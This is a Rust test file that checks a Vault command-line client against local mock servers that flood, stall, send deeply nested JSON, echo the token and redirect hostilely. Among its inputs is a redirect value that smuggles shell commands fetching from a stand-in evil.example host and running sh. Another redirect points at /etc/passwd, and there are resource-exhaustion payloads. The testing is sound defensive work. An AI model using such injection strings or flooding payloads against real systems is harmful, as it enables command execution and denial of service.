//! A server that lies, floods, stalls and echoes. It is our own, since a real one does none of
//! that.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::{CANARY, Home, Run, run};

type Behaviour = dyn Fn(&mut TcpStream, &str) + Send + Sync;

/// A server that answers the first request of each connection with `behaviour`.
struct Hostile {
    address: String,
    seen: Arc<AtomicUsize>,
}

impl Hostile {
    fn start(behaviour: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static) -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let address = format!("http://{}", listener.local_addr().unwrap());
        let seen = Arc::new(AtomicUsize::new(0));
        let (count, behaviour): (_, Arc<Behaviour>) = (Arc::clone(&seen), Arc::new(behaviour));
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (count, behaviour) = (Arc::clone(&count), Arc::clone(&behaviour));
                std::thread::spawn(move || serve(stream, &count, &*behaviour));
            }
        });
        Self { address, seen }
    }

    fn body(status: &str, body: impl Into<Vec<u8>>) -> Self {
        let (status, body) = (status.to_owned(), body.into());
        Self::start(move |stream, _| answer(stream, &status, &body))
    }

    /// A home with a longer timeout, for a server that does answer but on a busy machine.
    fn patient(&self) -> Home {
        let mut home = self.home();
        home.set("VAULT_CLIENT_TIMEOUT", "30s");
        home
    }

    fn home(&self) -> Home {
        let mut home = Home::new();
        home.set("VAULT_ADDR", &self.address);
        home.set("VAULT_TOKEN", format!("hvs.{CANARY}-token"));
        home.set("VAULT_CLIENT_TIMEOUT", "1500ms");
        home.set("VAULT_MAX_RETRIES", "0");
        home
    }
}

fn serve(mut stream: TcpStream, count: &AtomicUsize, behaviour: &Behaviour) {
    let mut request = Vec::new();
    let mut buffer = [0; 65536];
    while !request.windows(4).any(|window| window == b"\r\n\r\n") {
        match stream.read(&mut buffer) {
            Ok(length) if length > 0 => request.extend(&buffer[..length]),
            _ => return,
        }
    }
    count.fetch_add(1, Ordering::SeqCst);
    behaviour(&mut stream, &String::from_utf8_lossy(&request));
}

fn answer(stream: &mut TcpStream, status: &str, body: &[u8]) {
    let _ = write!(
        stream,
        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = stream.write_all(body);
}

/// Runs the program and measures its peak memory in kilobytes and its duration.
fn measured(home: &Home, arguments: &[&str]) -> (Run, u64, Duration) {
    let script = "import resource, subprocess, sys\nstatus = subprocess.run(sys.argv[1:]).returncode\nprint('peak', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\nsys.exit(status)";
    let started = Instant::now();
    let run = run(
        home.command("python3")
            .args(["-c", script, env!("CARGO_BIN_EXE_claude-vault")])
            .args(arguments),
        "",
    );
    let peak = run
        .stderr
        .lines()
        .find_map(|line| line.strip_prefix("peak "))
        .and_then(|peak| peak.parse().ok())
        .unwrap();
    (run, peak, started.elapsed())
}

const COMMANDS: [&[&str]; 5] = [
    &["get", "plex"],
    &["list"],
    &["list", "plex"],
    &["status"],
    &["set", "plex", "A=1", "--no-confirm"],
];

#[test]
fn huge_endless_deep_and_crowded_answers_end_within_time_and_memory() {
    let crowd = |member: &str, count: usize| vec![member; count].join(",");
    let cases: Vec<(&str, Hostile)> = vec![
        (
            "huge",
            Hostile::start(|stream, _| {
                drop(write!(
                    stream,
                    "HTTP/1.1 200 OK\r\nContent-Length: 100000000\r\n\r\n"
                ));
            }),
        ),
        (
            "endless",
            Hostile::start(|stream, _| {
                let _ = write!(
                    stream,
                    "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                );
                let chunk = format!("10000\r\n{}\r\n", " ".repeat(65536));
                while stream.write_all(chunk.as_bytes()).is_ok() {}
            }),
        ),
        (
            "slow",
            Hostile::start(|stream, _| {
                let _ = write!(stream, "HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n");
                while stream.write_all(b" ").is_ok() {
                    std::thread::sleep(Duration::from_millis(100));
                }
            }),
        ),
        (
            "silent",
            Hostile::start(|_, _| std::thread::sleep(Duration::from_secs(20))),
        ),
        (
            "endless headers",
            Hostile::start(|stream, _| {
                let _ = write!(stream, "HTTP/1.1 200 OK\r\n");
                while stream
                    .write_all(b"X-Y: zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz\r\n")
                    .is_ok()
                {}
            }),
        ),
        (
            "deep",
            Hostile::body("200 OK", format!("{{\"data\":{}", "[".repeat(1_000_000))),
        ),
        (
            "deep value",
            Hostile::body(
                "200 OK",
                format!(
                    "{{\"data\":{{\"data\":{{\"a\":{}{}}},\"metadata\":{{\"version\":1}}}}}}",
                    "[".repeat(5_000_000),
                    "]".repeat(5_000_000)
                ),
            ),
        ),
        (
            "many keys",
            Hostile::body(
                "200 OK",
                format!(
                    "{{\"data\":{{\"data\":{{{}}},\"metadata\":{{\"version\":1}}}}}}",
                    (0..900_000)
                        .map(|n| format!("\"k{n}\":1"))
                        .collect::<Vec<_>>()
                        .join(",")
                ),
            ),
        ),
        (
            "many names",
            Hostile::body(
                "200 OK",
                format!("{{\"data\":{{\"keys\":[{}]}}}}", crowd("\"a\"", 3_000_000)),
            ),
        ),
        (
            "many errors",
            Hostile::body(
                "400 Bad Request",
                format!("{{\"errors\":[{}]}}", crowd("\"x\"", 3_000_000)),
            ),
        ),
        (
            "many policies",
            Hostile::body(
                "200 OK",
                format!(
                    "{{\"data\":{{\"policies\":[{}],\"keys\":[]}},\"initialized\":true,\"sealed\":false}}",
                    crowd("\"x\"", 3_000_000)
                ),
            ),
        ),
    ];
    for (name, hostile) in &cases {
        let home = hostile.home();
        for command in COMMANDS.iter().take(4) {
            let (run, peak, took) = measured(&home, command);
            let fine = *name == "deep value" && command[0] != "status"
                || *name == "many policies" && command.len() == 1;
            assert!(
                fine || matches!(run.status, 1 | 5 | 7),
                "{name} {command:?}: {} {}",
                run.status,
                run.stderr.chars().take(500).collect::<String>()
            );
            assert!(peak < 64 * 1024, "{name} {command:?}: {peak} KB");
            assert!(
                took < Duration::from_secs(15),
                "{name} {command:?}: {took:?}"
            );
        }
    }
}

#[test]
fn wrong_types_and_answers_of_other_servers_are_errors_that_repeat_nothing() {
    let bodies: Vec<Vec<u8>> = vec![
        b"".to_vec(),
        b"null".to_vec(),
        b"[]".to_vec(),
        b"{}".to_vec(),
        b"<html>login here</html>".to_vec(),
        b"{\"data\":1}".to_vec(),
        format!("{{\"data\":\"{CANARY}\"}}").into_bytes(),
        format!("{{\"data\":{{\"data\":[\"{CANARY}\"],\"metadata\":{{\"version\":1}}}}}}").into_bytes(),
        format!("{{\"data\":{{\"data\":{{\"a\":\"{CANARY}\"}},\"metadata\":{{\"version\":\"{CANARY}\"}}}}}}").into_bytes(),
        format!("{{\"data\":{{\"keys\":\"{CANARY}\"}}}}").into_bytes(),
        b"{\"data\":{\"keys\":[1]}}".to_vec(),
        b"\xff\xfe{\"data\"".to_vec(),
        format!("{{\"data\":{{\"data\":{{\"a\":\"{CANARY}").into_bytes(),
    ];
    for body in &bodies {
        for status in [
            "200 OK",
            "404 Not Found",
            "400 Bad Request",
            "403 Forbidden",
            "500 Oops",
            "503 Unavailable",
            "302 Found",
            "204 No Content",
            "999 X",
        ] {
            let hostile = Hostile::body(status, body.clone());
            let home = hostile.home();
            for command in COMMANDS.iter().take(4) {
                let run = home.cv(*command);
                let text = String::from_utf8_lossy(body);
                assert!(
                    matches!(run.status, 1 | 3 | 4 | 5 | 7),
                    "{status} {text} {command:?}: {} {}",
                    run.status,
                    run.stderr
                );
                assert!(
                    !run.all().contains(CANARY),
                    "{status} {text} {command:?}: {}",
                    run.all()
                );
                assert_eq!(run.stderr.lines().count(), 2, "{}", run.stderr);
            }
        }
    }
}

#[test]
fn a_server_that_echoes_token_and_value_leaks_neither() {
    for status in [
        "400 Bad Request",
        "403 Forbidden",
        "404 Not Found",
        "429 Slow",
        "500 Oops",
        "503 Sealed",
    ] {
        let hostile = Hostile::start(move |stream, request| {
            let body = serde_json::json!({ "errors": [request, "permission denied", "sealed"] })
                .to_string();
            answer(stream, status, body.as_bytes());
        });
        let mut home = hostile.home();
        home.set("RUST_LOG", "trace");
        for command in COMMANDS {
            let run = home.cv(command);
            assert!(
                run.status != 0 && !run.all().contains(CANARY),
                "{status} {command:?}: {}",
                run.all()
            );
        }
    }
}

#[test]
fn a_token_follows_no_redirect_to_another_host_and_no_redirect_loop() {
    let thief = Hostile::body("200 OK", "{}");
    let target = thief.address.replace("127.0.0.1", "127.0.0.2");
    let elsewhere = Hostile::start(move |stream, _| {
        drop(write!(
            stream,
            "HTTP/1.1 307 T\r\nLocation: {target}/v1/x\r\nContent-Length: 0\r\n\r\n"
        ));
    });
    let foreign = elsewhere
        .home()
        .cv(["get", "plex"])
        .exits(7)
        .says("which is not trusted with the token");
    assert!(
        foreign
            .stderr
            .contains("CLAUDE_VAULT_TRUSTED_HOSTS=127.0.0.2:")
    );
    // A host is not put into a hint that a shell would execute.
    let hostile = Hostile::start(move |stream, _| {
        let location = "https://x;{curl,evil.example,-ox};{sh,x};$(sh)/";
        drop(write!(
            stream,
            "HTTP/1.1 307 T\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n"
        ));
    });
    assert!(
        !hostile
            .home()
            .cv(["get", "plex"])
            .exits(7)
            .all()
            .contains("curl")
    );
    let thief_elsewhere = TcpListener::bind(("127.0.0.2", 0)).unwrap();
    drop(thief_elsewhere);
    assert_eq!(thief.seen.load(Ordering::SeqCst), 0);

    for location in [
        "/v1/again",
        "http://u:p@[::1]:1/",
        "https:///",
        "file:///etc/passwd",
        "",
    ] {
        let round = Hostile::start(move |stream, _| {
            drop(write!(
                stream,
                "HTTP/1.1 307 T\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            ));
        });
        round.home().cv(["get", "plex"]).exits(7);
        assert!(round.seen.load(Ordering::SeqCst) <= 10);
    }
}

/// A node that returns a secret to any request with the token, and a standby that redirects to it.
fn node_and_standby() -> (Hostile, Hostile) {
    let node = Hostile::start(|stream, request| {
        let ours = request.to_lowercase().contains("x-vault-token: hvs.");
        let body = if ours {
            r#"{"data":{"data":{"A":"here"},"metadata":{"version":1}}}"#
        } else {
            "{}"
        };
        answer(stream, "200 OK", body.as_bytes());
    });
    let target = node.address.clone();
    let standby = Hostile::start(move |stream, request| {
        let path = request.split(' ').nth(1).unwrap();
        let _ = write!(
            stream,
            "HTTP/1.1 307 T\r\nLocation: {target}{path}\r\nContent-Length: 0\r\n\r\n"
        );
    });
    (node, standby)
}

#[test]
fn a_redirect_to_a_trusted_host_is_followed_with_the_token() {
    let (node, standby) = node_and_standby();
    let port = node.address.rsplit(':').next().unwrap();
    for trusted in [
        "127.0.0.1".to_owned(),
        format!("elsewhere.example 127.0.0.1:{port}"),
    ] {
        let mut home = standby.patient();
        home.set("CLAUDE_VAULT_TRUSTED_HOSTS", trusted);
        assert_eq!(home.cv(["get", "plex", "A"]).exits(0).stdout, "here\n");
    }
}

#[test]
fn another_port_of_the_same_host_is_another_origin_and_gets_no_request() {
    let (node, standby) = node_and_standby();
    let port = node.address.rsplit(':').next().unwrap().to_owned();
    let hint = format!("export CLAUDE_VAULT_TRUSTED_HOSTS=127.0.0.1:{port}   ");
    standby
        .home()
        .cv(["get", "plex", "A"])
        .exits(7)
        .says("which is not trusted with the token")
        .says(&hint);
    standby
        .home()
        .cv(["set", "plex", "A=1", "--no-confirm"])
        .exits(7);
    // A login's nonce, which is sent without a token, does not go there either.
    let mut home = standby.home();
    home.set("VAULT_TOKEN", "");
    home.cv(["login", "--no-browser", "--timeout", "3"])
        .exits(7);
    for other in ["127.0.0.1:1", "127.0.0.2", "127.0.0.1.example"] {
        let mut home = standby.home();
        home.set("CLAUDE_VAULT_TRUSTED_HOSTS", other);
        home.cv(["get", "plex", "A"]).exits(7);
    }
    assert_eq!(node.seen.load(Ordering::SeqCst), 0);
}

#[test]
fn a_cut_connection_is_reported_as_a_failure_of_vault() {
    for text in [
        "",
        "HTTP/1.1",
        "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc",
        "garbage garbage\r\n\r\n",
    ] {
        let hostile = Hostile::start(move |stream, _| drop(stream.write_all(text.as_bytes())));
        for command in COMMANDS.iter().take(4) {
            hostile.home().cv(*command).exits(7);
        }
    }
}

#[test]
fn a_write_whose_answer_is_lost_is_checked_before_it_is_repeated() {
    // The server applies the write and then cuts the connection. The program must recognise the
    // next version as its own.
    let written = Arc::new(std::sync::Mutex::new(None::<String>));
    let kept = Arc::clone(&written);
    let hostile = Hostile::start(move |stream, request| {
        if request.starts_with("PUT") {
            *kept.lock().unwrap() = Some(request.split("\r\n\r\n").nth(1).unwrap().to_owned());
            return; // cut the connection
        }
        if request.contains("sys/leader") {
            return answer(stream, "200 OK", br#"{"ha_enabled":false}"#);
        }
        let stored = kept.lock().unwrap().clone();
        match stored {
            Some(body) => {
                let data: Value = serde_json::from_str(&body).unwrap();
                let body =
                    serde_json::json!({"data": {"data": data["data"], "metadata": {"version": 1}}});
                answer(stream, "200 OK", body.to_string().as_bytes());
            }
            None if request.contains("sys/internal") => {
                answer(
                    stream,
                    "200 OK",
                    br#"{"data":{"type":"kv","options":{"version":"2"}}}"#,
                );
            }
            None => answer(stream, "404 Not Found", br#"{"errors":[]}"#),
        }
    });
    hostile
        .home()
        .cv(["set", "plex", "A=1", "--no-confirm"])
        .exits(0)
        .says("(version 1)");
}

#[test]
fn terminal_escapes_in_names_are_shown_not_sent() {
    let body = r#"{"data":{"data":{"\u001b[2Jkey\u0007":"\u001b]0;x\u0007"},"metadata":{"version":1,"created_time":"\u001b[1m"},"created_time":"\u001b[1m","updated_time":"x","current_version":1}}"#;
    let hostile = Hostile::body("200 OK", body);
    for command in [&["list", "plex"][..], &["get", "plex"]] {
        let run = hostile.home().cv(command);
        assert!(
            !run.all().contains('\u{1b}') && !run.all().contains('\u{7}'),
            "{:?}",
            run.all()
        );
    }
}

#[test]
fn a_proxy_is_used_for_https_unless_the_host_is_excepted() {
    let proxy = Hostile::start(|stream, request| {
        assert!(
            request.starts_with("CONNECT vault.example.test:8200 "),
            "{request}"
        );
        assert!(
            !request.contains(CANARY),
            "the token must not reach a proxy in the clear"
        );
        answer(stream, "502 Bad Gateway", b"");
    });
    let mut home = proxy.patient();
    home.set("HTTPS_PROXY", &proxy.address);
    home.set("VAULT_ADDR", "https://vault.example.test:8200");
    home.cv(["list"]).exits(7);
    assert!(proxy.seen.load(Ordering::SeqCst) > 0);
    let before = proxy.seen.load(Ordering::SeqCst);
    home.set("NO_PROXY", "example.test");
    home.cv(["list"])
        .exits(7)
        .says("the host name is not known");
    home.set("VAULT_ADDR", "https://127.0.0.1:1");
    home.cv(["list"]).exits(7).says("connection refused"); // this machine is never reached through the proxy
    assert_eq!(proxy.seen.load(Ordering::SeqCst), before);
}

/// A real server answers this for a moment after a KV mount was created. Here it is made to last.
#[test]
fn the_program_waits_for_a_mount_that_is_being_upgraded() {
    const UPGRADING: &[u8] = b"{\"errors\":[\"Upgrading from non-versioned to versioned data. This backend will be unavailable for a brief period.\"]}";
    let calls = AtomicUsize::new(0);
    let server = Hostile::start(
        move |stream, _| match calls.fetch_add(1, Ordering::SeqCst) {
            0..=2 => answer(stream, "400 Bad Request", UPGRADING),
            _ => answer(stream, "200 OK", b"{\"data\":{\"keys\":[\"plex\"]}}"),
        },
    );
    assert_eq!(server.patient().cv(["list"]).exits(0).stdout, "plex\n");
    // The wait is limited by the client's timeout.
    let server = Hostile::body("400 Bad Request", UPGRADING);
    let started = Instant::now();
    server
        .home()
        .cv(["list"])
        .exits(1)
        .says("Vault answered 400");
    assert!(started.elapsed() < Duration::from_secs(5));
}
